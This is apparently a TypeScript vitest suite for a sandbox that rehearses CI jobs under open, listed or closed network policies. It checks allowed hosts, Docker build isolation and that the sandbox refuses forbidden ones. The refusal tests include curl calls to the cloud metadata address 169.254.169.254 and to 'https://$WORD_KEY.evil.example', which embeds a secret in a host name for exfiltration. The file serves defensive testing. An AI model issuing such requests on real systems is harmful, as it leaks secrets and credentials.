import { execFile } from 'node:child_process'
import { fileURLToPath } from 'node:url'
import { promisify } from 'node:util'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { ProcessedJob } from '../../src/language/index.ts'
import {
  type NetworkPolicy,
  openSandbox,
  type RehearsalRecord,
  type RehearsalRequest,
  type Sandbox,
} from '../../src/rehearsal/index.ts'
import { type OutsideWorld, startOutside } from './support/outside.ts'

const source = fileURLToPath(new URL('./fixtures/site', import.meta.url))
const open: NetworkPolicy = { level: 'open', allow: [], deny: ['denied.example'], allowWrite: [] }

let world: OutsideWorld

beforeAll(async () => {
  world = await startOutside()
})
afterAll(() => world?.close())

describe.each(['root', 'rootless'] as const)('a network that is open in mode %s', mode => {
  let sandbox: Sandbox
  const rehearse = (
    steps: ProcessedJob['steps'],
    more: Partial<RehearsalRequest> = {},
  ): Promise<RehearsalRecord> =>
    sandbox.rehearse({ name: 'job', job: { machine: true, steps }, source, ...more })

  beforeAll(async () => {
    sandbox = await openSandbox({ mode, network: open, outside: world.outside })
  })
  afterAll(async () => {
    await sandbox?.close()
  })

  it('serves steps, and builds of either builder, and leaves nothing of it in a layer', async () => {
    const build = (name: string) => `cat > Dockerfile.${name} <<'EOT'
FROM busybox:1.36
RUN test -s "$SSL_CERT_FILE" && grep -q CERTIFICATE "$SSL_CERT_FILE"
RUN wget -q -O /plain http://packages.example/plain-${name}
ADD https://packages.example/added-${name} /added
EOT
docker build -q -f Dockerfile.${name} -t ${name} . && docker create --name ${name} ${name} sh
docker export ${name} | tar -xO plain added
if docker export ${name} | tar -t | grep heroku-orb; then exit 1; fi
docker inspect ${name} | grep -c SSL_CERT_FILE && exit 1 || true`
    const record = await rehearse([
      'checkout',
      { run: 'curl -fsS https://packages.example/step && wget -qO- https://packages.example/step' },
      { run: `export DOCKER_BUILDKIT=0\n${build('classic')}` },
      { run: `export DOCKER_BUILDKIT=1\n${build('buildkit')}` },
    ])
    expect(record.job.steps.map(({ status, log }) => [status, status === 'success' ? '' : log])).toEqual(
      Array(4).fill(['success', '']),
    )
    expect(record.job.steps[3]!.log.match(/from outside/g)).toHaveLength(2)
    const [packages] = record.network.hosts.filter(({ port }) => port === 443)
    expect(packages).toMatchObject({
      host: 'packages.example',
      by: expect.arrayContaining(['step', 'engine']),
    })
    expect(record.network.mayHaveChanged).toEqual(['packages.example'])
    expect(record.weaknesses.at(-1)).toContain('the network is on')
  })

  it('pulls what nobody has pushed, and finds first what somebody has', async () => {
    const record = await rehearse([
      {
        run: `docker pull registry.example/acme/base:1 && docker run --rm registry.example/acme/base:1 cat /www/index.html
          printf 'FROM registry.example/acme/base:1\\nRUN echo ours > /www/index.html\\n' > Dockerfile
          echo "$PASSWORD" | docker login -u me --password-stdin registry.example
          docker build -q -t registry.example/acme/base:1 . && docker push -q registry.example/acme/base:1
          docker rmi -f registry.example/acme/base:1 && docker pull -q registry.example/acme/base:1
          docker run --rm registry.example/acme/base:1 cat /www/index.html`,
      },
    ])
    expect([record.job.status, record.job.steps[0]!.log]).toEqual([
      'success',
      expect.stringMatching(/pulled[\s\S]*ours/),
    ])
    expect(record.network.pushed).toEqual(['registry.example/acme/base:1'])
    expect(world.requests.filter(text => /^(PUT|POST|PATCH|DELETE)/.test(text))).toEqual([])
  })

  it('refuses what must not be reached, at once, and names it', async () => {
    const began = performance.now()
    const refused = [
      'https://circleci.com',
      'https://runner.circleci.com',
      'https://denied.example',
      'https://inner.example',
      'http://169.254.169.254/latest',
      'http://10.1.2.3',
      'http://nowhere.example',
      'https://$WORD_KEY.evil.example',
    ]
    const record = await rehearse(
      [
        {
          run: refused.map(url => `! curl -sS -m 5 -o /dev/null "${url}" || exit 9`).join('\n'),
        },
        { run: '! curl -fsS -d x http://packages.example/posted' },
      ],
      { madeUp: { WORD_KEY: 'word' } },
    )
    expect(record.job.steps.map(({ status }) => status)).toEqual(['success', 'success'])
    expect(record.reasons[0]).toBe('a step asked for a host name with a secret in it')
    expect(performance.now() - began).toBeLessThan(30_000)
    const names = record.network.refused.map(({ host }) => host).sort()
    expect(names).toEqual([
      '(a name)',
      'circleci.com',
      'denied.example',
      'inner.example',
      'nowhere.example',
      'packages.example',
      'runner.circleci.com',
    ])
    expect(world.requests.join()).not.toMatch(/posted|canary/)
  })
})

/** The registry that npm has on this machine, where it answers. */
async function realRegistry(): Promise<URL | undefined> {
  const { stdout } = await promisify(execFile)('npm', ['config', 'get', 'registry'])
  const url = new URL(stdout.trim())
  const answer = await fetch(url, { signal: AbortSignal.timeout(5000) }).catch(() => undefined)
  return answer?.ok && url.protocol === 'https:' ? url : undefined
}

describe('the network of this machine', () => {
  it('is reached through the sandbox by npm in a step', async context => {
    const registry = await realRegistry()
    if (!registry) return context.skip('the registry of npm does not answer here')
    const sandbox = await openSandbox({ network: { ...open, level: 'listed', allow: [registry.hostname] } })
    try {
      const record = await sandbox.rehearse({
        name: 'job',
        source,
        job: { machine: true, steps: [{ run: `npm view --registry ${registry} left-pad@1.3.0 version` }] },
      })
      expect([record.reasons, record.job.steps[0]!.log]).toEqual([[], '1.3.0\n'])
      expect(record.network.hosts.map(({ host }) => host)).toEqual([registry.hostname])
    } finally {
      await sandbox.close()
    }
  })
})

describe('a network that is off', () => {
  it('refuses every name at once, and says which option opens it', async () => {
    const sandbox = await openSandbox({ outside: world.outside })
    try {
      const record = await sandbox.rehearse({
        name: 'job',
        source,
        madeUp: { WORD_KEY: 'word' },
        job: {
          machine: true,
          steps: [
            'checkout',
            {
              run: 'printf "FROM busybox:1.36\\nRUN wget -q http://in-a-build.example/\\n" > D; ! docker build -f D .',
            },
            { run: '! curl -sS "https://$WORD_KEY.evil.example/" 2>/dev/null' },
            { run: 'curl -sS https://packages.example/' },
          ],
        },
      })
      expect(record.reasons).toEqual([
        "the step 'curl -sS https://packages.example/' failed",
        'a step asked for a host name with a secret in it',
        'the network is off here, and the job asked for in-a-build.example, packages.example: add --allow-host in-a-build.example --allow-host packages.example, or --network open',
      ])
      expect(record.job.durationMs).toBeLessThan(20_000)
    } finally {
      await sandbox.close()
    }
  })
})
